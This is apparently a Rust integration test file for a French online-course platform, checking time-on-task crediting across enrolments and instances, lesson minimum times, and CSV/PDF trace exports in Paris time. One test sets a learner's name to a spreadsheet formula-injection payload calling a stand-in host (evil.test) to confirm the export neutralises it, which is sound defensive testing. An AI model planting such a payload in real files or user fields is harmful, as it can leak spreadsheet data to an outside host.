//! Time on task as proof: one clock per account (two courses at once, on one or two
//! instances), the lesson's minimum stated and counted live, and the traceability record in
//! Paris time, read back by independent readers (Python's csv and zoneinfo, pdftotext).

use std::time::{Duration, Instant};

use diesel::prelude::*;
use qvt_campus::db::schema::time_intervals;
use serde_json::{json, Value};

use crate::helpers::{
    access_cookie, course_with_completion, lesson_ids, no_redirects, pdf_text, problem, setup_in,
    Setup, TestApp,
};
use crate::journeys::User;

const COURSE: &str = "qvt-formation-initiale";

/// One learner enrolled in two sessions of the course: two enrolments, one account.
struct TwoCourses {
    s: Setup,
    user: User,
    enrolments: [String; 2],
    lesson: String,
    _courses: tempfile::TempDir,
}

async fn two_courses(completion: &str) -> TwoCourses {
    let courses = course_with_completion(COURSE, completion);
    let s = setup_in(courses.path().to_path_buf()).await;
    let user = s.app.learner("apprenante@univ-exemple.fr").await;
    let mut enrolments = Vec::new();
    for title in ["Promotion A", "Promotion B"] {
        let session = s.qvt_session(json!({ "title": title })).await;
        let enrolled = s.enrol(&user, &session, json!({})).await;
        assert_eq!(enrolled.status().as_u16(), 201, "{title}");
        let body: Value = enrolled.json().await.unwrap();
        enrolments.push(body["id"].as_str().unwrap().to_owned());
    }
    let lesson = lesson_ids(&s.app, COURSE).await.remove(0);
    for e in &enrolments {
        let opened = s
            .app
            .get_as(
                &user.token,
                &format!("/api/v1/enrolments/{e}/lessons/{lesson}"),
            )
            .await;
        assert_eq!(opened.status().as_u16(), 200);
    }
    TwoCourses {
        s,
        user,
        enrolments: enrolments.try_into().unwrap(),
        lesson,
        _courses: courses,
    }
}

impl TwoCourses {
    async fn beat(&self, app: &TestApp, enrolment: usize, id: String) -> Value {
        let e = &self.enrolments[enrolment];
        let response = app
            .post_as(
                &self.user.token,
                &format!("/api/v1/enrolments/{e}/lessons/{}/heartbeat", self.lesson),
                &json!({ "beat_id": id }),
            )
            .await;
        assert_eq!(response.status().as_u16(), 200);
        response.json().await.unwrap()
    }

    /// The enrolment's total as its progress states it (every credit answered is written).
    async fn credited(&self, app: &TestApp, enrolment: usize) -> i64 {
        let e = &self.enrolments[enrolment];
        let progress: Value = app
            .get_json(
                &self.user.token,
                &format!("/api/v1/enrolments/{e}/progress"),
            )
            .await;
        progress["active_seconds"].as_i64().unwrap()
    }

    /// Both enrolments beat at the same moment, `rounds` times, 1.1 s apart, each on its
    /// instance; returns the wall-clock seconds the beats spanned, rounded up.
    async fn beat_together(&self, apps: [&TestApp; 2], rounds: usize) -> i64 {
        let started = Instant::now();
        for round in 0..rounds {
            tokio::join!(
                self.beat(apps[0], 0, format!("a{round}")),
                self.beat(apps[1], 1, format!("b{round}"))
            );
            if round + 1 < rounds {
                tokio::time::sleep(Duration::from_millis(1_100)).await;
            }
        }
        started.elapsed().as_secs_f64().ceil() as i64
    }
}

#[tokio::test]
async fn parallel_heartbeats_on_two_enrolments_of_one_account_credit_one_clock() {
    // Arrange
    let t = two_courses("min_lesson_seconds = 0").await;

    // Act: two tabs, two courses, beating at the same time (F2 of the security review).
    let wall = t.beat_together([&t.s.app, &t.s.app], 5).await;

    // Assert: before, each enrolment got the whole time (twice the wall clock in all).
    let (first, second) = (t.credited(&t.s.app, 0).await, t.credited(&t.s.app, 1).await);
    assert!(
        first + second <= wall,
        "{first} + {second} s credited over {wall} s of wall-clock time"
    );
    assert!(first + second >= 3, "the time was still counted once");
}

#[tokio::test]
async fn two_enrolments_of_one_account_beating_on_two_instances_credit_one_clock() {
    // Arrange: two instances on one database, no sticky sessions.
    let t = two_courses("min_lesson_seconds = 0").await;
    let other = t.s.app.another_instance().await;

    // Act: each course's beats land on a different instance, whose memories never meet.
    let wall = t.beat_together([&t.s.app, &other], 5).await;

    // Assert: the union over the account's intervals, whichever instance wrote them.
    let (first, second) = (t.credited(&t.s.app, 0).await, t.credited(&t.s.app, 1).await);
    assert!(
        first + second <= wall,
        "{first} + {second} s credited over {wall} s of wall-clock time"
    );
    assert!(first + second >= 3, "the time was still counted once");
    let rows: i64 = time_intervals::table
        .select(diesel::dsl::sum(time_intervals::active_seconds))
        .first::<Option<i64>>(&mut t.s.app.conn())
        .unwrap()
        .unwrap_or(0);
    assert_eq!(rows, first + second, "the record says what progress says");
}

#[tokio::test]
async fn a_heartbeat_answers_the_lessons_total_and_the_minutes_the_minimum_still_needs() {
    let t = two_courses("min_lesson_seconds = 90").await;
    let (app, e, lesson) = (&t.s.app, &t.enrolments[0], &t.lesson);

    let first = t.beat(app, 0, "b1".into()).await;
    assert_eq!(
        (
            &first["lesson_seconds"],
            &first["remaining_seconds"],
            &first["min_lesson_seconds"]
        ),
        (&json!(0), &json!(90), &json!(90)),
        "{first}"
    );
    tokio::time::sleep(Duration::from_millis(1_200)).await;
    // Answered from memory (the enrolment was just checked): the total still moves.
    let second = t.beat(app, 0, "b2".into()).await;
    let credited = second["lesson_seconds"].as_i64().unwrap();
    assert!((1..=2).contains(&credited), "{second}");
    assert_eq!(second["remaining_seconds"].as_i64(), Some(90 - credited));

    // A fresh instance reads the written total from the database.
    let other = t.s.app.another_instance().await;
    t.credited(app, 0).await;
    let third = t.beat(&other, 0, "b3".into()).await;
    assert_eq!(third["lesson_seconds"].as_i64(), Some(credited), "{third}");

    app.work_through(&t.user.token, e, lesson).await;
    let refused = problem(
        app.post_as(
            &t.user.token,
            &format!("/api/v1/enrolments/{e}/lessons/{lesson}/complete"),
            &json!({}),
        )
        .await,
        409,
    )
    .await;
    let detail = refused["detail"].as_str().unwrap();
    assert!(
        detail.contains("il vous reste 2 min") && detail.contains("minimum 2 min"),
        "{detail}"
    );
}

#[tokio::test]
async fn the_lesson_page_states_the_minimum_and_a_refused_completion_stays_on_the_lesson() {
    // Arrange: a page session.
    let t = two_courses("min_lesson_seconds = 120").await;
    let client = no_redirects();
    let signed_in = client
        .post(t.s.app.url("/connexion"))
        .form(&[
            ("email", t.user.email.as_str()),
            ("password", crate::journeys::PASSWORD),
        ])
        .send()
        .await
        .unwrap();
    let cookie = format!("qvt_access={}", access_cookie(&signed_in));
    let csrf = qvt_campus::identity::auth::csrf_of(access_cookie(&signed_in).as_str());
    let page = format!("/apprendre/{}/lecons/{}", t.enrolments[0], t.lesson);
    t.s.app
        .work_through(&t.user.token, &t.enrolments[0], &t.lesson)
        .await;

    // Act
    let lesson = client
        .get(t.s.app.url(&page))
        .header("cookie", &cookie)
        .send()
        .await
        .unwrap();
    let lesson = lesson.text().await.unwrap();
    let refused = client
        .post(t.s.app.url(&format!("{page}/terminer")))
        .header("cookie", &cookie)
        .form(&[("csrf", csrf.as_str())])
        .send()
        .await
        .unwrap();

    // Assert
    assert!(
        lesson.contains("Temps de lecture minimum : 2 min 00 s")
            && lesson.contains("Temps compté sur cette leçon")
            && lesson.contains("faire défiler, toucher l'écran"),
        "{lesson}"
    );
    assert_eq!(refused.status().as_u16(), 409);
    let refused = refused.text().await.unwrap();
    assert!(
        refused.contains("il vous reste 2 min de lecture sur cette leçon"),
        "{refused}"
    );
    assert!(
        refused.contains(&format!("action=\"{page}/terminer\"")) && !refused.contains("Conflit"),
        "the lesson again, with its button, not a bare error page"
    );
}

/// Reads the record as a spreadsheet-minded program would: Python's csv module, and
/// zoneinfo for what Paris time was at each instant. Prints JSON.
const READ_TRACE: &str = r#"
import csv, json, sys
from datetime import datetime, timezone
from zoneinfo import ZoneInfo
paris = ZoneInfo("Europe/Paris")
rows = list(csv.reader(open(sys.argv[1], encoding="utf-8", newline=""), delimiter=";"))
identity = {r[0]: r[1] for r in rows[1:] if len(r) == 2}
out = {"learner": identity["Apprenant"], "starts": [], "offsets_right": True,
       "lessons": 0, "days": 0, "pairs": 0, "total": None}
section = None
for r in rows:
    if not r:
        section = None
        continue
    if r[0] in ("Date", "Total par leçon", "Total par jour", "Total par jour et par leçon"):
        section = r[0]
        continue
    if r[0] == "Total":
        out["total"] = int(r[2])
    elif section == "Date":
        for text in (r[2], r[3]):
            at = datetime.strptime(text, "%Y-%m-%d %H:%M:%S %z")
            out["offsets_right"] &= at.utcoffset() == at.astimezone(paris).utcoffset()
            out["offsets_right"] &= r[0] == r[2][:10]
        start = datetime.strptime(r[2], "%Y-%m-%d %H:%M:%S %z").astimezone(timezone.utc)
        out["starts"].append(start.strftime("%Y-%m-%d %H:%M:%S"))
    elif section == "Total par leçon":
        out["lessons"] += int(r[2])
    elif section == "Total par jour":
        out["days"] += int(r[2])
    elif section == "Total par jour et par leçon":
        out["pairs"] += int(r[3])
print(json.dumps(out))
"#;

#[tokio::test]
async fn the_trace_states_paris_times_with_offsets_and_runs_no_formula() {
    // Arrange: a learner whose name is a formula, and some time on record.
    let t = two_courses("min_lesson_seconds = 0").await;
    let formula = "=HYPERLINK(\"http://evil.test/?\"&A1,\"Cliquez\")";
    let renamed =
        t.s.app
            .call(
                reqwest::Method::PATCH,
                "/api/v1/me",
                &t.user.token,
                Some(&json!({ "full_name": formula })),
            )
            .await;
    assert_eq!(renamed.status().as_u16(), 200);
    t.beat(&t.s.app, 0, "b1".into()).await;
    tokio::time::sleep(Duration::from_millis(2_100)).await;
    t.beat(&t.s.app, 0, "b2".into()).await;
    let trace = |ext: &str| format!("/api/v1/enrolments/{}/trace.{ext}", t.enrolments[0]);

    // Act
    let csv = t.s.app.get_as(&t.user.token, &trace("csv")).await;
    let csv = csv.bytes().await.unwrap();
    let pdf = t.s.app.get_as(&t.user.token, &trace("pdf")).await;
    let pdf = pdf_text(&pdf.bytes().await.unwrap());

    // Assert: the CSV, through Python.
    let file = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(file.path(), &csv).unwrap();
    let output = std::process::Command::new("python3")
        .args(["-c", READ_TRACE])
        .arg(file.path())
        .output()
        .expect("python3 is installed");
    assert!(
        output.status.success(),
        "{}\n{}",
        String::from_utf8_lossy(&output.stderr),
        String::from_utf8_lossy(&csv)
    );
    let read: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(read["learner"], format!("'{formula}"), "neutralised (F4)");
    assert_eq!(read["offsets_right"], true, "{read}");
    let stored: Vec<(chrono::NaiveDateTime, i32)> = time_intervals::table
        .select((time_intervals::started_at, time_intervals::active_seconds))
        .order(time_intervals::started_at)
        .load(&mut t.s.app.conn())
        .unwrap();
    let starts: Vec<String> = stored
        .iter()
        .map(|(at, _)| at.format("%Y-%m-%d %H:%M:%S").to_string())
        .collect();
    assert_eq!(read["starts"], json!(starts), "the same instants as stored");
    let total: i64 = stored.iter().map(|(_, s)| i64::from(*s)).sum();
    assert!(total >= 2);
    for totals in ["total", "lessons", "days", "pairs"] {
        assert_eq!(read[totals].as_i64(), Some(total), "{totals}: {read}");
    }

    // Assert: the PDF, through pdftotext.
    // The PDF states the same instant for people: « 05/12/2026 17:04:12 UTC+01:00 ».
    let local = qvt_campus::fr::record_time(stored[0].0);
    for expected in [
        "heures de Paris (Europe/Paris)",
        local.as_str(),
        "Total par jour et par leçon",
    ] {
        assert!(pdf.contains(expected), "{expected} missing from:\n{pdf}");
    }
}
